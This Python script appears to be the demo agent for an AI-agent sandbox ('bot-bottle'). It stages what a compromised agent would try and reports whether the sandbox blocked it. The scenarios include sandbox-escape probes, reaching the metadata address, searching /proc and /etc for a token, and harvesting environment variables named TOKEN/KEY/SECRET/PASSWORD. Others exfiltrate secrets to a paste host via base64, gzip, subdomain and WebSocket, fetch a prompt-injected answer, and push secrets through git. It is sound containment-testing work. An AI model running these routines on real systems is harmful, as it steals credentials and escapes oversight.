"""The demo's agent: a program that tries what a compromised agent would try, and reports what happened.

It runs inside the bottle with nothing but what a bottle gives. Each line it prints is one JSON object: the name of
a scenario, whether it went as bot-bottle promises, and the evidence.
"""

import base64
import gzip
import json
import os
import secrets
import socket
import ssl
import string
import subprocess
import sys
import time
import urllib.parse
import urllib.request

CONFIG = json.loads(os.environ["DEMO"])


def report(name, ok, evidence):
    print(json.dumps({"scenario": name, "ok": bool(ok), "evidence": evidence}), flush=True)


def curl(url, *options, sent=None):
    """The status that a real client gets, and the body or the client's own error."""
    command = ["curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", *options]
    if sent is not None:
        command += ["--data-binary", "@-"]
    done = subprocess.run([*command, url], capture_output=True, input=sent or b"")
    body, _, status = done.stdout.decode(errors="replace").rpartition("\n")
    return int(status or 0), body if done.returncode == 0 else done.stderr.decode(errors="replace").strip()


def allowed():
    status, body = curl(f"https://{CONFIG['host']}/api/hello", "-H", "Authorization: Bearer whatever-the-agent-has")
    report("allowed request", status == 200, f"HTTP {status}, {body.strip()!r}")


def refused():
    for name, url, options in [
        ("unlisted host", "https://unlisted.example/", []),
        ("listed host, wrong path", f"https://{CONFIG['host']}/admin", []),
        ("listed host, wrong method", f"https://{CONFIG['host']}/api/hello", ["-X", "DELETE"]),
    ]:
        status, body = curl(url, *options)
        try:
            rule = json.loads(body)["rule"]
        except (ValueError, KeyError, TypeError):
            rule = f"no rule named: {body[:80]!r}"
            status = 0
        report(name, status == 403, f"HTTP {status}, rule {rule}")


def interfaces():
    with open("/proc/net/dev") as table:
        return sorted(line.split(":")[0].strip() for line in table if ":" in line)


def attempt(name, family, kind, address, payload=None):
    """Tries one way out. Nothing is sent unless this network namespace has loopback only."""
    if interfaces() != ["lo"]:
        return report(name, False, f"not tried: the bottle has interfaces {interfaces()}")
    try:
        with socket.socket(family, kind) as way:
            way.settimeout(2)
            way.connect(address)
            if payload is not None:
                way.send(payload)
                way.recv(512)
        report(name, False, f"{address[0]}:{address[1]} answered")
    except OSError as error:
        report(name, True, f"{address[0]} port {address[1]}: {error}")


def ways_out():
    report("only loopback inside", interfaces() == ["lo"], f"interfaces: {', '.join(interfaces())}")
    tcp, udp = socket.SOCK_STREAM, socket.SOCK_DGRAM
    attempt("direct TCP", socket.AF_INET, tcp, ("203.0.113.1", 443))
    attempt("direct UDP", socket.AF_INET, udp, ("203.0.113.1", 4433), b"out")
    attempt("direct IPv6", socket.AF_INET6, tcp, ("2001:db8::1", 443))
    attempt("DNS query", socket.AF_INET, udp, ("203.0.113.53", 53), b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3org\0\0\1\0\1")
    attempt("host loopback, TCP", socket.AF_INET, tcp, ("127.0.0.1", CONFIG["host_port"]))
    attempt("host loopback, UDP", socket.AF_INET, udp, ("127.0.0.1", CONFIG["host_port"]), b"out")
    attempt("metadata address", socket.AF_INET, tcp, ("169.254.169.254", 80))
    try:
        found = socket.getaddrinfo("example.org", 443)
        report("name resolution", False, f"resolved to {found[0][4][0]}")
    except OSError as error:
        report("name resolution", True, str(error))
    status, body = curl(f"https://{CONFIG['host']}/api/hello", "--noproxy", "*")
    report("proxy-less request", status == 0, body)


def readable_places():
    """Everything a thief would read: environments and command lines of every process, and every small file."""
    for process in filter(str.isdigit, os.listdir("/proc")):
        for part in ("environ", "cmdline"):
            yield f"/proc/{process}/{part}"
    for top in ("/home", "/etc", "/tmp", "/run", "/var", "/dev/shm", "/opt", "/srv", "/mnt"):
        for folder, _, files in os.walk(top):
            yield from (os.path.join(folder, file) for file in files)


def search(needle):
    hits, read = [], 0
    for path in readable_places():
        try:
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    read += 1
                    if needle in file.read(1 << 22):
                        hits.append(path)
        except OSError:
            pass
    return hits, read


def real_token():
    # It travels masked, so that what is searched does not hold it.
    return bytes(byte ^ 0x55 for byte in bytes.fromhex(CONFIG["masked_token"]))


def token_is_nowhere():
    needle = real_token()
    marker = CONFIG["marker"].encode()
    control, _ = search(marker)
    hits, read = search(needle)
    ok = not hits and bool(control)
    report("real token is nowhere inside", ok, f"searched {read} files, found in {hits or 'none'}; "
           f"a planted marker was found in {len(control)}")


def must_be_refused(name, rule, url, *options, sent=None):
    """A request that a detector must stop, or its answer."""
    status, body = curl(url, *options, sent=sent)
    try:
        told = json.loads(body)
    except ValueError:
        told = {}
    if not isinstance(told, dict):
        told = {}
    said = f"rule {told.get('rule')}: {told.get('reason')}" if told else repr(body[:80])
    report(name, status == 403 and told.get("rule") == rule, f"HTTP {status}, {said}")


def exfiltration():
    paste, token = f"https://{CONFIG['paste_host']}/", real_token()
    status, _ = curl(paste, sent=b"nothing that anybody minds")
    report("harmless POST", status == 200, f"HTTP {status}")
    made_up = "gh" + "p_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))
    must_be_refused("POST of a token", "secret", paste, sent=json.dumps({"note": made_up}).encode())
    must_be_refused("known secret, base64", "secret", paste, sent=b"log=" + base64.b64encode(b"found: " + token))
    must_be_refused("known secret, gzip", "secret", paste, "-H", "Content-Encoding: gzip", sent=gzip.compress(b"log=" + token))
    must_be_refused("known secret, subdomain", "secret", f"https://{token.decode().lower()}.{CONFIG['drop_zone']}/")
    names = ("TOKEN", "KEY", "SECRET", "PASSWORD")
    stolen = {name: value for name, value in os.environ.items() if name.endswith(names)}
    must_be_refused("canary from the environment", "canary", paste, sent=json.dumps(stolen).encode())


def read_to(way, end):
    got = b""
    while not got.endswith(end):
        byte = way.recv(1)
        if not byte:
            raise OSError(f"it ended after {got[:80]!r}")
        got += byte
    return got


def websocket(host):
    """A WebSocket through the proxy, and the first line that its origin answers with."""
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    way = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    way.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    read_to(way, b"\r\n\r\n")
    way = ssl.create_default_context().wrap_socket(way, server_hostname=host)
    key = base64.b64encode(secrets.token_bytes(16)).decode()
    way.sendall((f"GET /socket HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
                 f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n").encode())
    return way, read_to(way, b"\r\n\r\n").decode().splitlines()[0]


def say(way, text):
    """Sends one short message, masked as clients do; the opcode and text of the frame that comes back."""
    key = secrets.token_bytes(4)
    way.sendall(bytes([0x81, 0x80 | len(text)]) + key + bytes(byte ^ key[at % 4] for at, byte in enumerate(text)))
    opcode, length = read_exactly(way, 2)
    return opcode & 15, read_exactly(way, length)


def read_exactly(way, count):
    got = b""
    while len(got) < count:
        more = way.recv(count - len(got))
        if not more:
            raise OSError("it ended in the middle of a frame")
        got += more
    return got


def message():
    way, opened = websocket(CONFIG["paste_host"])
    _, echo = say(way, b"harmless")
    opcode, told = say(way, real_token())
    ok = " 101 " in opened and echo == b"harmless" and opcode == 8
    code = int.from_bytes(told[:2], "big")
    report("known secret, WebSocket message", ok and code == 1008,
           f"a harmless one came back as {echo.decode()!r}, then: closed with {code}, {told[2:].decode()!r}")


def injection():
    must_be_refused("instructions in an answer", "injection", f"https://{CONFIG['host']}/api/poisoned")


def live_route():
    url = f"https://{CONFIG['later_host']}/"
    before, _ = curl(url)
    print(json.dumps({"ask": "add route"}), flush=True)
    for _ in range(200):
        status, _ = curl(url)
        if status == 200:
            break
        time.sleep(0.1)
    report("route added live", before == 403 and status == 200, f"HTTP {before} before, HTTP {status} after")


class Door:
    """The bottle's MCP server, as a client without a library speaks to it."""

    def __init__(self):
        self.session = None
        client = {"name": "demo", "version": "1"}
        self.post({"id": 1, "method": "initialize",
                   "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": client}})
        self.post({"method": "notifications/initialized"})

    def post(self, message):
        headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
        if self.session:
            headers["Mcp-Session-Id"] = self.session
        body = json.dumps({"jsonrpc": "2.0", **message}).encode()
        direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with direct.open(urllib.request.Request("http://supervise:9100/", body, headers), timeout=50) as answer:
            self.session = answer.headers.get("Mcp-Session-Id", self.session)
            lines = answer.read().decode().splitlines()
        data = (line.removeprefix("data:") for line in lines if line.startswith(("data:", "{")))
        messages = [json.loads(line) for line in data if line.strip()]
        return next((message for message in messages if "id" in message), None)

    def call(self, tool, **arguments):
        params = {"name": tool, "arguments": arguments}
        return self.post({"id": 2, "method": "tools/call", "params": params})["result"]["structuredContent"]


def asking():
    guide = f"https://{CONFIG['host']}/docs/guide"
    before, _ = curl(guide)
    told = Door().call("allow", host=CONFIG["host"], methods=["GET", "DELETE"], wait_seconds=40,
                       justification="the task reads the guide")
    after, _ = curl(guide)
    broader, _ = curl(guide, "-X", "DELETE")
    report("the agent asks at the door", told["status"] == "modified", f"{told['status']}: {told.get('allowed')}")
    report("what was granted, and no more", (before, after, broader) == (403, 200, 403),
           f"HTTP {before} before, HTTP {after} after; what was not granted: HTTP {broader}")


def git(*arguments, folder="tools"):
    """A real git client's exit code, and what it told the person who pushes."""
    done = subprocess.run(["git", "-C", folder, *arguments], capture_output=True, timeout=60)
    return done.returncode, done.stderr.decode(errors="replace")


def commit(name, text, message):
    with open(f"tools/{name}", "w") as file:
        file.write(text)
    git("add", name)
    code, told = git("commit", "--quiet", "-m", message)
    if code:
        raise OSError(told)


def told_by_gate(told):
    lines = [line.removeprefix("remote:").strip() for line in told.splitlines() if line.startswith("remote:")]
    return " ".join(filter(None, lines)) or told.strip()


def pushing():
    code, told = git("clone", "--quiet", CONFIG["repository"], "tools", folder=".")
    report("clone through the git gate", code == 0, CONFIG["repository"] if code == 0 else told)
    git("checkout", "--quiet", "-b", "agent/work")
    commit("clean.txt", "a clean line\n", "Nothing that anybody minds")
    code, told = git("push", "--quiet", "origin", "agent/work")
    report("push of a clean commit", code == 0, told_by_gate(told) if code else "upstream took agent/work")
    made_up = "gh" + "p_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))
    commit("config.ini", f"[forge]\ntoken = {made_up}\n", "A secret")
    code, told = git("push", "origin", "agent/work")
    report("push of a secret", code != 0 and "config.ini" in told and made_up not in told, told_by_gate(told))
    commit("config.ini", "[forge]\n", "The secret is gone again")
    code, told = git("push", "origin", "agent/work")
    report("push of a secret in the history", code != 0 and "config.ini" in told, told_by_gate(told))
    git("reset", "--quiet", "--hard", "origin/agent/work")
    code, told = git("push", "origin", "HEAD:main")
    report("push to a branch that is not its own", code != 0, told_by_gate(told))


if __name__ == "__main__":
    for scenario in (allowed, refused, ways_out, token_is_nowhere, exfiltration, message, injection, live_route, asking, pushing):
        try:
            scenario()
        except Exception as error:  # A scenario that breaks has not shown what it should.
            report(scenario.__name__, False, f"{type(error).__name__}: {error}")
    sys.exit(0)
